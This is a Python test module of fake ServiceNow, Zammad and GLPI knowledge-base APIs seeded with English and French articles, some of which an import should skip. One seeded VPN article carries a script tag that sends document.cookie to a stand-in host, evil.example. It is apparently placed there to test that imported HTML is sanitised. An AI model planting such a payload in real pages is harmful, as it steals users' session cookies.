"""Knowledge bases of other products, served as their documented APIs serve them.

    >>> with ServiceNowKbFake() as fake:
    ...     drafts = read_servicenow(fake.url, auth=(USER, PASSWORD))

- `ServiceNowKbFake`: Table API `GET /api/now/table/kb_knowledge` (`sysparm_query` with
  `field=value` and `ORDERBY…`, `sysparm_fields`, `sysparm_limit`, `sysparm_offset`,
  `{"result": [...]}`, X-Total-Count); basic auth or `Bearer`; errors as
  `{"error": {"message", "detail"}, "status": "failure"}`.
- `ZammadKbFake`: `POST /api/v1/knowledge_bases/init` (the id-keyed assets maps, with
  KnowledgeBaseAnswerTranslationContent when `answer_translation_content_ids` is given),
  `GET /api/v1/knowledge_bases/{kb}/answers/{id}?include_contents=ids` (`{"id", "assets"}`),
  `GET /api/v1/locales`; basic auth or `Token token=`; errors as `{"error", "error_human"}`.
- `GlpiKbFake`: apirest.php `initSession` (basic auth or `user_token`, App-Token when set),
  Session-Token, `KnowbaseItem?range=a-b` (200 or 206 with `Content-Range: a-b/total`,
  400 past the total), `killSession`; errors as `["ERROR_CODE", "message"]`.

Each is seeded with the same knowledge in its own shape: published articles in English
and French (one with headings, a list, a relative and an https link, a picture and a
script) and some that must not be imported (draft, retired, archived, expired).
`published` lists (lang, title) of what an import should bring, `hidden` the titles it
must not, `relative_link` the href of the relative link; `junk` holds malformed records
served among the real ones.
"""
from __future__ import annotations

import html
import re
import uuid
from typing import Any

from tests.itsm.fakes.base import FakeItsm, TOKEN, json_body

HTTPS_LINK = "https://vpn.example.com/download"
VPN_TITLE = "Connect to the VPN from home"
VPN_FR_TITLE = "Se connecter au VPN depuis chez soi"
PASSWORD_FR_TITLE = "Réinitialiser son mot de passe"
PRINTER_TITLE = "Add a printer on your floor"
SCRIPT_TEXT = "document.cookie"


def vpn_html(relative_link: str) -> str:
    return (
        "<h2>Before you start</h2>"
        "<p>You need your laptop and the phone that receives your <strong>sign-in codes</strong>.</p>"
        "<h3>Steps</h3>"
        "<ol>"
        f'<li>Open the <a href="{relative_link}">Company Portal guide</a> and install GlobalProtect.</li>'
        f'<li>Download your profile from <a href="{HTTPS_LINK}">the VPN page</a>.</li>'
        "<li>Sign in with your usual account and approve the request on your phone.</li>"
        "</ol>"
        '<p><img src="/images/globalprotect.png" alt="The GlobalProtect sign-in window"></p>'
        f"<script>new Image().src = 'https://evil.example/?c=' + {SCRIPT_TEXT};</script>"
    )


VPN_FR_HTML = (
    "<h2>Avant de commencer</h2>"
    "<p>Il vous faut votre ordinateur portable et le téléphone qui reçoit vos codes de connexion.</p>"
    "<ul><li>Ouvrez GlobalProtect depuis le menu Démarrer.</li>"
    "<li>Saisissez l'adresse du portail indiquée sur <a href=\"https://vpn.example.com/fr\">la page VPN</a>.</li>"
    "<li>Connectez-vous avec votre compte habituel.</li></ul>"
)
PASSWORD_FR_HTML = (
    "<h2>Quand faut-il le changer ?</h2>"
    "<p>Votre mot de passe expire tous les 90 jours ; vous recevez un courriel une semaine avant.</p>"
    "<ol><li>Ouvrez <a href=\"https://motdepasse.example.com\">le portail des mots de passe</a>.</li>"
    "<li>Saisissez votre identifiant puis le code reçu par SMS.</li>"
    "<li>Choisissez un nouveau mot de passe d'au moins douze caractères.</li></ol>"
)
PRINTER_HTML = (
    "<p>Every floor has two printers, named after the floor: PRN-3A and PRN-3B on the third floor.</p>"
    "<ol><li>Open Settings, then Printers and scanners.</li><li>Choose Add device and pick the printer.</li></ol>"
)
DRAFT_HTML = "<p>Work in progress: the migration plan for the new VPN gateway, not ready for employees.</p>"


# -- ServiceNow -----------------------------------------------------------------------------

def servicenow_failure(status: int, message: str, detail: str = ""):
    return status, {"error": {"message": message, "detail": detail}, "status": "failure"}, {}


class ServiceNowKbFake(FakeItsm):
    relative_link = "/kb_view.do?sysparm_article=KB0010004"
    published = [("en", VPN_TITLE), ("fr", PASSWORD_FR_TITLE), ("en", PRINTER_TITLE)]
    hidden = ["VPN gateway migration plan", "Ancien client VPN (Cisco AnyConnect)"]

    def __init__(self) -> None:
        super().__init__()
        self.junk: list[Any] = []
        self.articles: list[dict] = [
            self.article("KB0010001", VPN_TITLE, vpn_html(self.relative_link), meta="vpn, remote, globalprotect"),
            self.article("KB0010002", PASSWORD_FR_TITLE, PASSWORD_FR_HTML, language="fr", meta="mot de passe"),
            self.article("KB0010003", PRINTER_TITLE, "", article_type="wiki",
                         wiki="Every floor has two printers, PRN-3A and PRN-3B on the third floor.\n\n"
                              "* Open Settings, then Printers and scanners.\n* Choose Add device."),
            self.article("KB0010005", "VPN gateway migration plan", DRAFT_HTML, workflow_state="draft"),
            self.article("KB0009001", "Ancien client VPN (Cisco AnyConnect)", "<p>Ne plus utiliser.</p>",
                         language="fr", workflow_state="retired"),
        ]

    @staticmethod
    def article(number: str, title: str, text: str, **fields: Any) -> dict:
        return {"sys_id": uuid.uuid5(uuid.NAMESPACE_URL, number).hex, "number": number, "short_description": title,
                "text": text, "wiki": None, "article_type": "html", "meta": "", "language": "en",
                "workflow_state": "published",
                "kb_category": {"link": "https://acme.service-now.com/api/now/table/kb_category/d2f8",
                                "value": "d2f8"}, **fields}

    def handle(self, method, path, query, headers, body):
        if not (self.basic_ok(headers) or headers.get("Authorization") == f"Bearer {TOKEN}"):
            return servicenow_failure(401, "User Not Authenticated", "Required to provide Auth information")
        if path != "/api/now/table/kb_knowledge" or method != "GET":
            return servicenow_failure(400, "Requested URI does not represent any resource")
        found = self._matching(query.get("sysparm_query", ""))
        offset, limit = int(query.get("sysparm_offset", 0)), int(query.get("sysparm_limit", 10000))
        fields = [name for name in query.get("sysparm_fields", "").split(",") if name]
        page = [{name: record.get(name, "") for name in fields} if fields else dict(record)
                for record in found[offset:offset + limit]]
        if offset == 0:
            page += self.junk
        return 200, {"result": page}, {"X-Total-Count": str(len(found))}

    def _matching(self, encoded_query: str) -> list[dict]:
        found = list(self.articles)
        for condition in filter(None, encoded_query.split("^")):
            if condition.startswith("ORDERBYDESC"):
                found.sort(key=lambda record: str(record.get(condition[11:], "")), reverse=True)
            elif condition.startswith("ORDERBY"):
                found.sort(key=lambda record: str(record.get(condition[7:], "")))
            elif "=" in condition:
                name, value = condition.split("=", 1)
                found = [record for record in found if str(record.get(name, "")) == value]
        return found


# -- Zammad ---------------------------------------------------------------------------------

SYSTEM_LOCALES = [
    {"id": 1, "locale": "en-us", "alias": "en", "name": "English (United States)", "active": True},
    {"id": 2, "locale": "de-de", "alias": "de", "name": "Deutsch", "active": True},
    {"id": 3, "locale": "fr-fr", "alias": "fr", "name": "Français", "active": True},
]
PUBLISHED_AT = "2025-03-12T14:52:38.014Z"


class ZammadKbFake(FakeItsm):
    relative_link = "/help/en-us/1-it-help/4-company-portal-guide"
    published = [("en", VPN_TITLE), ("fr", VPN_FR_TITLE), ("fr", PASSWORD_FR_TITLE)]
    hidden = ["VPN gateway migration plan", "Ancien client VPN (Cisco AnyConnect)", "New laptop policy for 2099"]

    def __init__(self) -> None:
        super().__init__()
        self.junk: dict[str, dict] = {}
        self.kb_locales = {1: 1, 2: 3}                      # KnowledgeBaseLocale id -> system locale id
        self.answers: dict[int, dict] = {}
        self.translations: dict[int, dict] = {}
        self.contents: dict[int, dict] = {}
        self.add_answer(1, {1: (VPN_TITLE, vpn_html(self.relative_link)), 2: (VPN_FR_TITLE, VPN_FR_HTML)})
        self.add_answer(2, {2: (PASSWORD_FR_TITLE, PASSWORD_FR_HTML)})
        self.add_answer(3, {1: ("VPN gateway migration plan", DRAFT_HTML)}, published_at=None,
                        internal_at=PUBLISHED_AT)
        self.add_answer(4, {2: ("Ancien client VPN (Cisco AnyConnect)", "<p>Ne plus utiliser.</p>")},
                        archived_at="2025-06-01T08:00:00.000Z")
        self.add_answer(5, {1: ("New laptop policy for 2099", "<p>Scheduled.</p>")},
                        published_at="2099-01-01T00:00:00.000Z")

    def add_answer(self, answer_id: int, translations: dict[int, tuple[str, str]], **dates: Any) -> None:
        translation_ids = []
        for kb_locale_id, (title, body) in translations.items():
            translation_id = len(self.translations) + 1
            content_id = translation_id + 100
            self.translations[translation_id] = {
                "id": translation_id, "title": title, "kb_locale_id": kb_locale_id, "answer_id": answer_id,
                "content_id": content_id, "created_by_id": 3, "updated_by_id": 3}
            self.contents[content_id] = {"id": content_id, "body": body, "attachments": []}
            translation_ids.append(translation_id)
        self.answers[answer_id] = {
            "id": answer_id, "category_id": 1, "position": answer_id, "promoted": False, "internal_note": None,
            "archived_at": None, "internal_at": None, "published_at": PUBLISHED_AT,
            "created_at": "2025-03-12T14:50:48.732Z", "updated_at": "2025-03-13T11:04:17.734Z",
            "translation_ids": translation_ids, "attachments": [], "tags": [], **dates}

    def handle(self, method, path, query, headers, body):
        if not (self.basic_ok(headers) or headers.get("Authorization") == f"Token token={TOKEN}"):
            return 401, {"error": "Invalid BasicAuth credentials",
                         "error_human": "Invalid BasicAuth credentials"}, {}
        if path == "/api/v1/locales" and method == "GET":
            return 200, SYSTEM_LOCALES, {}
        if path == "/api/v1/knowledge_bases/init" and method == "POST":
            wanted = json_body(body).get("answer_translation_content_ids") or []
            return 200, self._assets(self.answers, self.translations, wanted, structure=True), {}
        match = re.fullmatch(r"/api/v1/knowledge_bases/(\d+)/answers/(\d+)", path)
        if match and method == "GET":
            answer_id = int(match.group(2))
            if match.group(1) != "1" or answer_id not in self.answers:
                return 404, {"error": f"Couldn't find KnowledgeBase::Answer with 'id'={answer_id}"}, {}
            own = {k: t for k, t in self.translations.items() if t["answer_id"] == answer_id}
            wanted = [int(i) for i in str(query.get("include_contents", "")).split(",") if i.isdigit()]
            return 200, {"id": answer_id, "assets": self._assets({answer_id: self.answers[answer_id]}, own, wanted)}, {}
        return 404, {"error": "No route matches"}, {}

    def _assets(self, answers: dict, translations: dict, content_ids: list, structure: bool = False) -> dict:
        assets: dict[str, Any] = {
            "KnowledgeBase": {"1": {"id": 1, "iconset": "FontAwesome", "active": True, "translation_ids": [1],
                                    "kb_locale_ids": list(self.kb_locales), "category_ids": [1],
                                    "answer_ids": list(self.answers)}},
            "KnowledgeBaseTranslation": {"1": {"id": 1, "title": "IT help", "kb_locale_id": 1,
                                               "knowledge_base_id": 1}},
            "KnowledgeBaseLocale": {str(k): {"id": k, "knowledge_base_id": 1, "system_locale_id": system,
                                             "primary": k == 1} for k, system in self.kb_locales.items()},
            "KnowledgeBaseCategory": {"1": {"id": 1, "knowledge_base_id": 1, "parent_id": None,
                                            "answer_ids": list(self.answers), "translation_ids": [1]}},
            "KnowledgeBaseCategoryTranslation": {"1": {"id": 1, "title": "IT help", "kb_locale_id": 1,
                                                       "category_id": 1}},
            "KnowledgeBaseAnswer": {str(k): dict(v) for k, v in answers.items()},
            "KnowledgeBaseAnswerTranslation": {str(k): dict(v) for k, v in translations.items()},
        }
        if structure:
            for model, records in self.junk.items():
                assets.setdefault(model, {}).update(records)
        contents = {str(i): dict(self.contents[i]) for i in content_ids if i in self.contents}
        if contents:
            assets["KnowledgeBaseAnswerTranslationContent"] = contents
        return assets


# -- GLPI -----------------------------------------------------------------------------------

class GlpiKbFake(FakeItsm):
    relative_link = "front/document.send.php?docid=12"
    published = [("en", VPN_TITLE), ("fr", PASSWORD_FR_TITLE), ("en", "Printers & scanners: add one on your floor")]
    hidden = ["Ancien client VPN (Cisco AnyConnect)", "New laptop policy for 2099"]

    def __init__(self, app_token: str | None = None) -> None:
        super().__init__()
        self.app_token = app_token
        self.sessions: set[str] = set()
        self.killed = 0
        self.junk: list[Any] = []
        self.items: list[dict] = [
            self.item(1, VPN_TITLE, html.escape(vpn_html(self.relative_link))),      # GLPI 9.x stores it encoded
            self.item(2, PASSWORD_FR_TITLE, PASSWORD_FR_HTML),
            self.item(3, "Printers &amp; scanners: add one on your floor", html.escape(PRINTER_HTML), is_faq=1),
            self.item(4, "Ancien client VPN (Cisco AnyConnect)", "&lt;p&gt;Ne plus utiliser.&lt;/p&gt;",
                      end_date="2020-01-01 00:00:00"),
            self.item(5, "New laptop policy for 2099", "<p>Scheduled.</p>", begin_date="2099-01-01 00:00:00"),
        ]

    @staticmethod
    def item(item_id: int, name: str, answer: str, **fields: Any) -> dict:
        return {"id": item_id, "knowbaseitemcategories_id": "IT help", "name": name, "answer": answer,
                "is_faq": 0, "view": 12, "date": "2025-03-12 14:50:48", "date_mod": "2025-03-13 11:04:17",
                "date_creation": "2025-03-12 14:50:48", "users_id": "jdoe", "begin_date": None, "end_date": None,
                "links": [{"rel": "KnowbaseItemCategory", "href": "http://glpi/apirest.php/KnowbaseItemCategory/1"}],
                **fields}

    def handle(self, method, path, query, headers, body):
        if not path.startswith("/apirest.php"):
            return 404, ["ERROR_RESOURCE_NOT_FOUND_NOR_COMMONDBTM", "resource not found"], {}
        path = path[len("/apirest.php"):].rstrip("/")
        if self.app_token is not None and headers.get("App-Token") != self.app_token:
            return 400, ["ERROR_WRONG_APP_TOKEN_PARAMETER", "parameter app_token seems wrong"], {}
        if path == "/initSession":
            if self.basic_ok(headers) or headers.get("Authorization") == f"user_token {TOKEN}":
                session_token = uuid.uuid4().hex
                self.sessions.add(session_token)
                return 200, {"session_token": session_token}, {}
            return 401, ["ERROR_GLPI_LOGIN", "Incorrect username or password"], {}
        if headers.get("Session-Token") not in self.sessions:
            return 401, ["ERROR_SESSION_TOKEN_INVALID", "session_token seems invalid"], {}
        if path == "/killSession":
            self.sessions.discard(headers.get("Session-Token"))
            self.killed += 1
            return 200, True, {}
        if path == "/KnowbaseItem" and method == "GET":
            return self._page(str(query.get("range", "0-49")))
        return 400, ["ERROR_BAD_ARRAY", "unsupported"], {}

    def _page(self, wanted: str):
        start, end = (int(n) for n in wanted.split("-"))
        rows = self.items + self.junk
        total = len(rows)
        if start >= total:
            return 400, ["ERROR_RANGE_EXCEED_TOTAL", f"Provided range exceed total count of data: {total}"], {}
        last = min(end, total - 1)
        headers = {"Content-Range": f"{start}-{last}/{total}", "Accept-Range": "KnowbaseItem 1000"}
        return (206 if last < total - 1 else 200), rows[start:last + 1], headers
